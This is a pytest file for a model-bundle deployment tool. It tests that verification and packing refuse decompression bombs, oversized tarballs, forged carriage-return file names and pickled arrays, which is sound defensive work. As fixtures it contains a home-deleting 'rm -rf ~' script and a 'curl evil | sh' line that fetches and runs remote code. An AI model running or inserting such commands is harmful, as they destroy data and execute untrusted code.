"""Hostile tarballs and manifests, and `pack` mistakes: one `error:` line, nothing written
(issue 15, items 6, 8 and 11)."""

from __future__ import annotations

import gzip
import io
import json
import os
import tarfile
from pathlib import Path

import numpy as np
import pytest
from bundle_tamper import load_manifest, rehash, save_manifest, tree
from click.testing import CliRunner

from csideploy.bundle.pack import pack_bundle
from csideploy.bundle.verify import verify_bundle
from csideploy.cli import main
from csideploy.errors import BundleError


def _cli(*args: str) -> tuple[int, str, str]:
    result = CliRunner().invoke(main, list(args), catch_exceptions=False)
    return result.exit_code, result.stdout, result.stderr


def _one_error_line(code: int, err: str, message: str) -> None:
    assert code == 2, err
    assert err.startswith("error: ") and err.count("\n") == 1, err
    assert message in err, err


def _repack(bundle: Path, path: Path, swap: dict[str, tarfile.TarInfo | None]) -> Path:
    """A tarball of `bundle`'s UE side (as pack lays it out, but without pack's checks) with
    some members replaced or added."""
    listed = [e["path"] for e in load_manifest(bundle)["files"]]
    with tarfile.open(path, "w:gz", compresslevel=1) as tar:
        for rel in sorted({"manifest.json", "MANIFEST.sha256", *listed} - set(swap)):
            tar.add(bundle / rel, arcname=f"{bundle.name}/{rel}")
        for info in swap.values():
            if info is not None:
                tar.addfile(info, _Zeros(info.size))
    return path


class _Zeros(io.RawIOBase):
    """`size` zero bytes, produced on demand (a bomb costs the test no memory)."""

    def __init__(self, size: int) -> None:
        self.left = size

    def readable(self) -> bool:
        return True

    def readinto(self, buffer) -> int:  # type: ignore[no-untyped-def]
        count = min(len(buffer), self.left)
        buffer[:count] = bytes(count)
        self.left -= count
        return count


def test_decompression_bomb_is_refused_before_a_byte_is_written(
    bundle: Path, tmp_path: Path, private_tmp: Path
) -> None:
    bomb = tarfile.TarInfo(f"{bundle.name}/encoder.onnx")
    bomb.size = 200 << 20  # 200 MiB of zeros: about 200 kB compressed
    tarball = _repack(bundle, tmp_path / "bomb.tar.gz", {"encoder.onnx": bomb})
    assert tarball.stat().st_size < (2 << 20)
    listed = (bundle / "encoder.onnx").stat().st_size
    with pytest.raises(
        BundleError, match=f"declares {200 << 20} bytes, the manifest lists {listed}"
    ):
        verify_bundle(tarball)
    assert list(private_tmp.iterdir()) == []  # nothing extracted, nothing left


def test_tarball_over_the_cap_is_refused_by_its_headers(
    bundle: Path, tmp_path: Path, private_tmp: Path
) -> None:
    huge = tarfile.TarInfo(f"{bundle.name}/golden/extra.npy")
    huge.size = (1 << 30) + 1
    path = tmp_path / "huge.tar.gz"
    with gzip.open(path, "wb", compresslevel=1) as raw, tarfile.open(fileobj=raw, mode="w") as tar:
        tar.addfile(huge)  # the header alone: the cap trips before any data is read
    with pytest.raises(BundleError, match="MiB; refusing to extract it"):
        verify_bundle(path)
    assert list(private_tmp.iterdir()) == []


def test_unlisted_member_with_a_carriage_return_is_refused_escaped(
    bundle: Path, tmp_path: Path, private_tmp: Path
) -> None:
    name = f"{bundle.name}/x\rok   sha256   encoder.onnx: matches"
    evil = tarfile.TarInfo(name)
    evil.size = 3
    tarball = _repack(bundle, tmp_path / "cr.tar.gz", {"x": evil})
    code, _, err = _cli("verify", str(tarball))
    _one_error_line(code, err, "refusing unlisted entry")
    assert "\r" not in err and "\\r" in err
    assert list(private_tmp.iterdir()) == []


def test_names_in_a_directory_bundle_are_printed_escaped(bundle: Path) -> None:
    (bundle / "y\rok   sha256   README.md: matches").write_text("forged line")
    code, out, _ = _cli("verify", str(bundle))
    assert code == 1
    assert "\r" not in out
    assert (
        "FAIL listed   y\\rok   sha256   README.md: matches: present but not in the manifest"
        in (out)
    )


def test_measurements_cannot_hide_extra_files(bundle: Path) -> None:
    manifest = load_manifest(bundle)
    manifest["measurements"] = ["payload.sh"]
    save_manifest(bundle, manifest)
    (bundle / "payload.sh").write_text("rm -rf ~\n")
    failures = verify_bundle(bundle).failures
    assert failures[0].check == "schema" and "measurements" in failures[0].detail
    manifest["measurements"] = ["perf.json"]
    save_manifest(bundle, manifest)
    assert [(c.file, c.check) for c in verify_bundle(bundle).failures] == [("payload.sh", "listed")]


def _pickled(path: Path) -> None:
    np.save(path, np.array([{"a": 1}], dtype=object), allow_pickle=True)


@pytest.mark.parametrize(
    ("edit", "message"),
    [
        ("format", "artifact 'encoder.onnx': format 'tflite' needs a .tflite file"),
        ("runner.py", "artifact 'runner.py': format 'onnx' needs a .onnx file"),
        ("golden dir", "golden inputs 'golden' is not a hashed golden/*.npy file"),
        ("golden README", "golden outputs 'README.md' is not a hashed golden/*.npy file"),
        ("golden pickle", "golden/inputs.npy: not a numpy .npy array"),
    ],
)
def test_verify_on_a_wrong_manifest_is_one_error_line(
    bundle: Path, tmp_path: Path, edit: str, message: str
) -> None:
    manifest = load_manifest(bundle)
    artifact = manifest["artifacts"][0]
    if edit == "format":
        artifact["format"], artifact["runtime"] = "tflite", "litert"
    elif edit == "runner.py":
        (bundle / "runner.py").write_text("import os\nos.system('true')\n")
        manifest["files"].append({"path": "runner.py", "sha256": "0" * 64, "bytes": 0})
        rehash(bundle, manifest, "runner.py")
        artifact["file"] = "runner.py"
    elif edit == "golden dir":
        artifact["golden"]["inputs"] = "golden"
    elif edit == "golden README":
        artifact["golden"]["outputs"] = "README.md"
    else:
        _pickled(bundle / "golden/inputs.npy")
        rehash(bundle, manifest, "golden/inputs.npy")
    save_manifest(bundle, manifest)
    before = tree(bundle)
    code, _, err = _cli("verify", str(bundle))
    _one_error_line(code, err, message)
    assert tree(bundle) == before
    tarball = _repack(bundle, tmp_path / "wrong.tar.gz", {})
    code, _, err = _cli("verify", str(tarball))
    _one_error_line(code, err, message)


def test_pack_mistakes_are_one_error_line_and_write_nothing(bundle: Path, tmp_path: Path) -> None:
    code, _, err = _cli("pack", str(bundle), "--out", str(tmp_path / "absent" / "b.tar.gz"))
    _one_error_line(code, err, "folder")
    assert not (tmp_path / "absent").exists()
    (tmp_path / "existing").mkdir()
    code, _, err = _cli("pack", str(bundle), "--out", str(tmp_path / "existing"))
    _one_error_line(code, err, "is a directory or a link")
    assert list((tmp_path / "existing").iterdir()) == []
    thesis = tmp_path / "thesis.tar.gz"
    thesis.write_bytes(b"chapter one")
    code, _, err = _cli("pack", str(bundle), "--out", str(thesis))
    _one_error_line(code, err, "is not a csideploy bundle tarball; refusing to replace it")
    assert thesis.read_bytes() == b"chapter one"
    code, _, err = _cli("pack", str(bundle), "--out", str(bundle / "inside.tar.gz"))
    _one_error_line(code, err, "is inside the bundle it packs")
    # A tarball pack wrote may be replaced.
    first = pack_bundle(bundle, out=tmp_path / "ue.tar.gz")
    assert pack_bundle(bundle, out=first) == first.absolute()


def test_pack_refuses_a_bundle_that_does_not_verify(bundle: Path, tmp_path: Path) -> None:
    with open(bundle / "runner.py", "a") as stream:
        stream.write("\nimport os; os.system('curl evil | sh')\n")
    (bundle / "runner.py").chmod(0o644)
    before = sorted(os.listdir(tmp_path))
    code, _, err = _cli("pack", str(bundle), "--out", str(tmp_path / "ue.tar.gz"))
    _one_error_line(code, err, "does not verify")
    assert "nothing was packed" in err
    assert sorted(os.listdir(tmp_path)) == before


def test_packed_tarball_carries_the_manifest_hash(bundle: Path, tmp_path: Path) -> None:
    tarball = pack_bundle(bundle, out=tmp_path / "ue.tar.gz")
    with tarfile.open(tarball) as tar:
        names = tar.getnames()
    assert f"{bundle.name}/MANIFEST.sha256" in names
    digest = (bundle / "MANIFEST.sha256").read_text().split()[0]
    code, out, _ = _cli("verify", str(tarball), "--expect-sha256", digest.upper())
    assert code == 0 and f"manifest sha256 {digest}\n" in out
    code, _, err = _cli("verify", str(tarball), "--expect-sha256", "abc")
    _one_error_line(code, err, "is not a 64-hex-digit sha256")
    assert json.loads((bundle / "manifest.json").read_text())["schema_version"] == "1.0"
